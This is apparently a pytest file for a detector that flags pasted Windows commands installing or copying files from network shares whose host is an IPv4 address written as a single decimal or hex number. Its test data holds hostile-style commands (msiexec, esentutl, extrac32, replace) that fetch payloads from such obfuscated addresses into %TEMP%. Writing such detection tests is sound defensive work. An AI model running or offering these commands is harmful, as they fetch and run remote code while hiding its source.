"""A network path whose host is an IPv4 address written as one number or in hex
(``\\\\3405803781\\share``, ``\\\\0xcb007105\\share``) is an address to Windows, not a computer of
the local network: programs that install or copy from such a path are read as fetching from the
internet, the same as from a dotted address, and the spelling itself is a sign of hiding. A plain
name, or a short number more likely a name than ``0.0.x.y``, stays a local share."""

from __future__ import annotations

import pytest

from app.detection import Context, Engine, Level, PasteTarget
from app.detection.signals import _unc_ip

NUMBER_HOSTS = ["3405803781", "0xcb007105", "0xCB007105", "3325256709", "0xc6336405"]
PROGRAMS = [
    r"msiexec /i \\{h}\apps\setup.msi",
    r"msiexec.exe /package \\{h}\pub\agent.msi /quiet",
    r"msiexec /q /i \\{h}\d\x.msi",
    r"esentutl.exe /y \\{h}\s\tool.exe /d %TEMP%\tool.exe /o",
    r"extrac32 /y /c \\{h}\s\a.cab %TEMP%\a.exe",
    r"replace \\{h}\s\update.exe %TEMP% /A",
]
TERMINAL = Context(None, PasteTarget.TERMINAL)


@pytest.mark.parametrize("host", NUMBER_HOSTS)
@pytest.mark.parametrize("command", PROGRAMS)
def test_a_share_on_a_number_host_is_fetching_from_an_address(
    engine: Engine, command: str, host: str
) -> None:
    text = command.format(h=host)
    assert engine.analyze(text, TERMINAL).level is Level.MALICIOUS, text
    assert engine.analyze(text).level >= Level.SUSPICIOUS, text


@pytest.mark.parametrize(
    "host", ["deploy01", "fs01", "cafe", "2019", "pkgs", "SOFTWARE-SRV", "nas"]
)
def test_a_share_on_a_plain_name_stays_local(engine: Engine, host: str) -> None:
    text = rf"msiexec /i \\{host}\software$\7z-x64.msi /qn"
    assert engine.analyze(text, TERMINAL).level < Level.SUSPICIOUS, text


@pytest.mark.parametrize(
    ("host", "ip"),
    [
        ("3405803781", "203.0.113.5"),
        ("0xcb007105", "203.0.113.5"),
        ("0313.0.0161.05", "203.0.113.5"),
        ("203.0.113.5", None),  # dotted: the bare-IP signal reads it
        ("2019", None),  # 0.0.7.227: more likely a machine named 2019
        ("127.1", None),  # this computer
        ("0x7f000001", None),
        ("deploy01", None),
        ("cafe", None),
        ("", None),
        ("0x", None),
        ("99999999999", None),
    ],
)
def test_unc_ip_reads_only_number_spellings(host: str, ip: str | None) -> None:
    assert _unc_ip(host) == ip
